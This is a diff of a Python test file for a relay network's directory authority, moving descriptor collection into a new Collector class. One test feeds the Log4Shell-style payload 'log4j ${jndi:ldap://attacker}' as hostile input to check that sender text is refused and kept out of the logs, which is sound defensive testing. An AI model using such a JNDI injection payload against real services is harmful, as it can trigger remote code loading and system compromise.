@@ -26,11 +26,12 @@ from relay.authority.actions import Actions
 from relay.authority.agreement import Agreement
 from relay.authority.authority_files import AuthorityFiles
 from relay.authority.bulletin import decode_bulletin
+from relay.authority.collecting import Collector, reason_of
 from relay.authority.enrolment import Enrolment
 from relay.authority.office import Office
 from relay.authority.probing import Prober
 from relay.authority.publishing import Publishing
-from relay.authority.running import RunningAuthority, reason_of
+from relay.authority.running import RunningAuthority
 from relay.key_keeper import ROTATION_RETRY_S, KeyKeeper
 from relay.keys import KeySchedule, PacketKeyFiles
 from tests.relay.nodes import NETWORK_ID, PARAMETERS, Node, clock, until
@@ -56,11 +57,12 @@ class Published:
         self.enrolment = Enrolment(ROOT, private_addresses=True)
         self.directory = DirectoryService()
         self.publishing = Publishing()
+        self._prober = Prober(self.enrolment, PARAMETERS.geometry, context=client_context(), clock=clock)
+        self.collector = Collector(self.enrolment, self._prober, clock)
         self.running = RunningAuthority(
             Office(agreement, self.enrolment, first_document_relays=relays),
             self.publishing,
             self.directory,
-            prober=Prober(self.enrolment, PARAMETERS.geometry, context=client_context(), clock=clock),
             files=AuthorityFiles(folder),
             clock=clock,
         )
@@ -70,8 +72,13 @@ class Published:
         """The relays of what is handed out."""
         return list(self.publishing.directory.relays) if self.publishing.directory else []
 
+    async def run(self) -> None:
+        async with trio.open_nursery() as nursery:
+            nursery.start_soon(self._prober.run)
+            nursery.start_soon(self.running.run)
+
     def collect(self, node: Node, descriptor: Descriptor | None = None) -> None:
-        self.running.collect(sign_descriptor(descriptor or node.describe(), node.identity))
+        self.collector.collect(sign_descriptor(descriptor or node.describe(), node.identity))
 
 
 async def test_a_relay_that_answers_is_listed_and_one_that_does_not_is_forgotten(tmp_path: Path) -> None:
@@ -81,7 +88,7 @@ async def test_a_relay_that_answers_is_listed_and_one_that_does_not_is_forgotten
     published = Published(tmp_path / "authority", relays=1)
     async with trio.open_nursery() as nursery:
         await nursery.start(here.serve)
-        nursery.start_soon(published.running.run)
+        nursery.start_soon(published.run)
         published.collect(gone)
         published.collect(here)
         await until(lambda: published.directory.publication)
@@ -98,7 +105,7 @@ async def test_a_relay_whose_address_is_somebody_elses_is_not_listed(tmp_path: P
     published = Published(tmp_path / "authority", relays=1)
     async with trio.open_nursery() as nursery:
         await nursery.start(honest.serve)
-        nursery.start_soon(published.running.run)
+        nursery.start_soon(published.run)
         published.collect(liar)
         await until(lambda: len(published.enrolment) == 0)
         # And its place is free for whoever really is there.
@@ -122,7 +129,7 @@ async def test_no_vote_is_shown_and_no_document_published_before_it_is_stored(
     with capture_logs() as logs:
         async with trio.open_nursery() as nursery:
             await nursery.start(node.serve)
-            nursery.start_soon(published.running.run)
+            nursery.start_soon(published.run)
             published.collect(node)
             await until(lambda: 2 < len([line for line in logs if line["event"] == "state_not_stored"]))
             assert () == decode_bulletin(published.running.office.agreement.bulletin()).votes
@@ -143,7 +150,7 @@ async def test_evidence_is_kept_in_files_and_logged(tmp_path: Path) -> None:
     pair = Evidence(VOTE_TYPE, vote(bytes(32)), vote(bytes(31) + b"1"))
     with capture_logs() as logs:
         async with trio.open_nursery() as nursery:
-            nursery.start_soon(published.running.run)
+            nursery.start_soon(published.run)
             for _ in range(2):
                 published.running.carry_out(Actions(evidence=(pair,)))
             await until(lambda: AuthorityFiles(published.folder).evidence())
@@ -157,7 +164,7 @@ async def test_evidence_is_kept_in_files_and_logged(tmp_path: Path) -> None:
 def test_what_a_sender_wrote_is_not_logged(tmp_path: Path) -> None:
     published, secret = Published(tmp_path / "authority", relays=1), "log4j ${jndi:ldap://attacker}"
     with capture_logs() as logs, pytest.raises(OnionPathError):
-        published.running.collect(secret.encode())
+        published.collector.collect(secret.encode())
 
     assert [{"event": "descriptor_refused", "reason": "malformed", "log_level": "warning"}] == logs
     assert "other" == reason_of(RefusedError(secret, reason=secret))
